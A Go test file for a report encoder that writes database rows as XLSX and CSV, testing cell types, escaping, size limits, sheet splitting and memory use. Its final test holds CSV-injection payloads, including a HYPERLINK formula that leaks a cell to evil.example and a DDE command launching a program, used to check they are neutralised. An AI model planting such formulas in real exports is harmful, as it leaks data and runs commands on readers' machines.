/*
Copyright 2026 The reportd Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package encode

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/jackc/pgx/v5/pgtype"
	"github.com/xuri/excelize/v2"

	"reportd.io/reportd/api/v1alpha1"
)

// openXLSX opens a workbook with excelize, as a user's tools would.
func openXLSX(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("excelize cannot open the workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestXLSXValues(t *testing.T) {
	cols := []Column{
		{Name: "Text", OID: pgtype.TextOID}, {Name: "Int", OID: pgtype.Int8OID},
		{Name: "Numeric", OID: pgtype.NumericOID}, {Name: "Bool", OID: pgtype.BoolOID},
		{Name: "Date", OID: pgtype.DateOID}, {Name: "At", OID: pgtype.TimestamptzOID},
		{Name: "Json", OID: pgtype.JSONBOID},
	}
	rows := [][][]byte{
		row(s("Smith, John <&> \"q\""), s("42"), s("-123.45"), s("t"), s("2024-02-29"), s("2024-01-02 03:04:05.123+01"), s(`{"a": 1}`)),
		row(s(""), nil, s("12345678901234567890.12"), s("f"), s("1899-12-31"), s("infinity"), nil),
		row(s("=1+2"), s("1234567890123456789"), s("NaN"), nil, nil, nil, nil),
		row(s("Line One\r\nLine Two\ttab"), s("-5"), s("1e-5"), nil, nil, nil, nil),
		row(s("ctl \x01\x1f end"), s("0"), s("0.000"), nil, nil, nil, nil),
		row(s("literal _x0041_ and _x_"), nil, nil, nil, nil, nil, nil),
		row(s("Zoë 山田 🎉 \uFFFE"), nil, nil, nil, nil, nil, nil),
	}
	f := openXLSX(t, encodeAll(t, v1alpha1.FormatXLSX, Options{}, cols, rows...))
	got, err := f.GetRows("Sheet1", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"Text", "Int", "Numeric", "Bool", "Date", "At", "Json"},
		{"Smith, John <&> \"q\"", "42", "-123.45", "1", "45351", "2024-01-02T03:04:05.123+01:00", `{"a": 1}`},
		{"", "", "12345678901234567890.12", "0", "1899-12-31", "infinity"},
		{"=1+2", "1234567890123456789", "NaN"},
		{"Line One\r\nLine Two\ttab", "-5", "1e-5"},
		{"ctl \x01\x1f end", "0", "0.000"},
		{"literal _x0041_ and _x_"},
		{"Zoë 山田 🎉 \uFFFE"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("cells (-want +got):\n%s", diff)
	}
	// Types as a spreadsheet sees them: numbers are numbers unless Excel
	// would lose digits, booleans are booleans, text is never a formula.
	types := map[string]excelize.CellType{
		"A2": excelize.CellTypeInlineString, "B2": excelize.CellTypeUnset, "C2": excelize.CellTypeUnset,
		"D2": excelize.CellTypeBool, "E2": excelize.CellTypeUnset, "F2": excelize.CellTypeInlineString,
		"C3": excelize.CellTypeInlineString, "B4": excelize.CellTypeInlineString, "A4": excelize.CellTypeInlineString,
	}
	for cell, want := range types {
		got, err := f.GetCellType("Sheet1", cell)
		if err != nil || got != want {
			t.Errorf("type of %s = %v (%v), want %v", cell, got, err, want)
		}
	}
	if formula, _ := f.GetCellFormula("Sheet1", "A4"); formula != "" {
		t.Errorf("A4 holds the formula %q; text must stay text", formula)
	}
	if date, _ := f.GetCellValue("Sheet1", "E2"); date != "2024-02-29" {
		t.Errorf("E2 shows %q, want the date formatted 2024-02-29", date)
	}
}

// TestXLSXPartsAreWellFormed parses every part as XML and checks the
// parts a minimal workbook needs.
func TestXLSXPartsAreWellFormed(t *testing.T) {
	data := encodeAll(t, v1alpha1.FormatXLSX, Options{}, []Column{{Name: "a<b", OID: pgtype.TextOID}}, row(s("x\x00y\x02")))
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, zf := range zr.File {
		names = append(names, zf.Name)
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(rc)
		for {
			_, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s is not well-formed XML: %v", zf.Name, err)
			}
		}
		rc.Close()
	}
	want := []string{"_rels/.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"}
	if diff := cmp.Diff(want, names); diff != "" {
		t.Errorf("parts (-want +got):\n%s", diff)
	}
}

func TestXLSXCellTooLong(t *testing.T) {
	cols := []Column{{Name: "Id", OID: pgtype.Int4OID}, {Name: "Notes", OID: pgtype.TextOID}}
	var buf bytes.Buffer
	enc, err := New(v1alpha1.FormatXLSX, &buf, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := enc.Begin(cols); err != nil {
		t.Fatal(err)
	}
	fits := strings.Repeat("é", maxCellChars) // 32,767 characters in 65,534 bytes
	if err := enc.Row(row(s("1"), s(fits))); err != nil {
		t.Fatalf("a cell of exactly 32,767 characters was refused: %v", err)
	}
	// 32,766 characters plus one emoji, two UTF-16 units in Excel's count.
	tooLong := strings.Repeat("x", maxCellChars-1) + "🎉"
	err = enc.Row(row(s("2"), s(tooLong)))
	if !errors.Is(err, ErrCellTooLong) {
		t.Fatalf("error = %v, want ErrCellTooLong", err)
	}
	for _, part := range []string{"row 2", `column "Notes"`, "32768 characters"} {
		if !strings.Contains(err.Error(), part) {
			t.Errorf("error %q does not name %s", err, part)
		}
	}
}

func TestXLSXContinuesOnNewSheets(t *testing.T) {
	defer func(old int) { maxSheetRows = old }(maxSheetRows)
	maxSheetRows = 5 // a header and four rows per sheet
	cols := []Column{{Name: "N", OID: pgtype.Int4OID}, {Name: "Name", OID: pgtype.TextOID}}
	var rows [][][]byte
	for i := 1; i <= 10; i++ {
		rows = append(rows, row(s(strconv.Itoa(i)), s(fmt.Sprintf("row %d", i))))
	}
	f := openXLSX(t, encodeAll(t, v1alpha1.FormatXLSX, Options{}, cols, rows...))
	if diff := cmp.Diff([]string{"Sheet1", "Sheet2", "Sheet3"}, f.GetSheetList()); diff != "" {
		t.Fatalf("sheets (-want +got):\n%s", diff)
	}
	want := map[string][][]string{
		"Sheet1": {{"N", "Name"}, {"1", "row 1"}, {"2", "row 2"}, {"3", "row 3"}, {"4", "row 4"}},
		"Sheet2": {{"N", "Name"}, {"5", "row 5"}, {"6", "row 6"}, {"7", "row 7"}, {"8", "row 8"}},
		"Sheet3": {{"N", "Name"}, {"9", "row 9"}, {"10", "row 10"}},
	}
	for sheet, rows := range want {
		got, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(rows, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", sheet, diff)
		}
	}
}

// TestXLSXPartsShareOneCompressor writes a workbook of twenty parts: one
// compressor (nearly 1 MiB) must serve them all, not one per part.
func TestXLSXPartsShareOneCompressor(t *testing.T) {
	defer func(old int) { maxSheetRows = old }(maxSheetRows)
	maxSheetRows = 3 // a header and two rows per sheet: 15 sheets and 5 other parts
	cols := []Column{{Name: "N", OID: pgtype.Int4OID}}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	enc, err := New(v1alpha1.FormatXLSX, &countingWriter{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := enc.Begin(cols); err != nil {
		t.Fatal(err)
	}
	for range 30 {
		if err := enc.Row(row(s("1"))); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.Close(); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if allocated := after.TotalAlloc - before.TotalAlloc; allocated > 2<<20 {
		t.Errorf("a workbook of 20 parts allocated %d KiB; want under 2 MiB (one compressor)", allocated>>10)
	}
}

func TestXLSXTooManyColumns(t *testing.T) {
	enc, err := New(v1alpha1.FormatXLSX, io.Discard, Options{})
	if err != nil {
		t.Fatal(err)
	}
	cols := make([]Column, maxSheetCols+1)
	if err := enc.Begin(cols); !errors.Is(err, ErrTooManyColumns) {
		t.Fatalf("Begin error = %v, want ErrTooManyColumns", err)
	}
}

func TestColumnLetters(t *testing.T) {
	cases := map[int]string{0: "A", 25: "Z", 26: "AA", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA", 16383: "XFD"}
	for i, want := range cases {
		if got := string(columnLetters(i)); got != want {
			t.Errorf("columnLetters(%d) = %q, want %q", i, got, want)
		}
	}
}

// TestXLSXMemoryIsFlat writes 50,000 and then 500,000 rows and compares the
// peak heap: streaming means ten times the rows cost no more memory.
func TestXLSXMemoryIsFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("writes half a million rows")
	}
	small := peakHeap(t, 50_000)
	large := peakHeap(t, 500_000)
	t.Logf("peak heap in use: %d KiB for 50k rows, %d KiB for 500k rows", small>>10, large>>10)
	if large > small+4<<20 {
		t.Errorf("peak heap grew from %d KiB to %d KiB with the row count", small>>10, large>>10)
	}
}

// peakHeap writes n sales-like rows to a discarding writer and returns the
// largest heap in use seen while writing and closing.
func peakHeap(t *testing.T, n int) uint64 {
	t.Helper()
	runtime.GC()
	var peak uint64
	sample := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		peak = max(peak, m.HeapInuse)
	}
	enc, err := New(v1alpha1.FormatXLSX, &countingWriter{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	cols := []Column{
		{Name: "Date", OID: pgtype.TimestamptzOID}, {Name: "OrderId", OID: pgtype.Int8OID},
		{Name: "Customer", OID: pgtype.TextOID}, {Name: "Amount", OID: pgtype.NumericOID},
		{Name: "Status", OID: pgtype.TextOID},
	}
	if err := enc.Begin(cols); err != nil {
		t.Fatal(err)
	}
	values := [][]byte{[]byte("2024-03-05 10:11:12.345+00"), nil, []byte("Grace Hopper"), []byte("123.45"), []byte("shipped")}
	for i := range n {
		values[1] = strconv.AppendInt(values[1][:0], int64(i), 10)
		if err := enc.Row(values); err != nil {
			t.Fatal(err)
		}
		if i%10_000 == 0 {
			sample()
		}
	}
	if err := enc.Close(); err != nil {
		t.Fatal(err)
	}
	sample()
	return peak
}

// formulaPayloads are text cells a spreadsheet would run as formulas: the
// OWASP CSV-injection list (=, +, -, @, tab, CR first) with a hyperlink
// that leaks a neighbouring cell and a DDE command.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")`,
	`=cmd|' /C calc'!A0`,
	"+1+2",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+2",
	"\r=1+2",
}

// TestFormulaPayloadsAreNeutralised writes formula payloads in a text
// column beside a negative number, as CSV and as XLSX: the CSV holds each
// behind a single quote (and nothing else changed), the workbook holds
// each as an inline string with no formula, and the number stays a number.
func TestFormulaPayloadsAreNeutralised(t *testing.T) {
	cols := []Column{textCol, intCol}
	var rows [][][]byte
	for _, p := range formulaPayloads {
		rows = append(rows, row(s(p), s("-5")))
	}
	records, err := parseCopyCSV(encodeAll(t, v1alpha1.FormatCSV, Options{}, cols, rows...))
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range formulaPayloads {
		if got := records[i+1]; *got[0] != "'"+p || *got[1] != "-5" {
			t.Errorf("CSV row %d = %q, %q; want %q, -5", i+1, *got[0], *got[1], "'"+p)
		}
	}
	f := openXLSX(t, encodeAll(t, v1alpha1.FormatXLSX, Options{}, cols, rows...))
	for i, p := range formulaPayloads {
		text, number := fmt.Sprintf("A%d", i+2), fmt.Sprintf("B%d", i+2)
		if typ, err := f.GetCellType("Sheet1", text); err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("%s is of type %v (%v); want an inline string", text, typ, err)
		}
		if formula, _ := f.GetCellFormula("Sheet1", text); formula != "" {
			t.Errorf("%s holds the formula %q", text, formula)
		}
		if got, _ := f.GetCellValue("Sheet1", text, excelize.Options{RawCellValue: true}); got != p {
			t.Errorf("%s = %q, want the text %q", text, got, p)
		}
		if typ, _ := f.GetCellType("Sheet1", number); typ != excelize.CellTypeUnset {
			t.Errorf("%s is of type %v; want a number", number, typ)
		}
	}
}
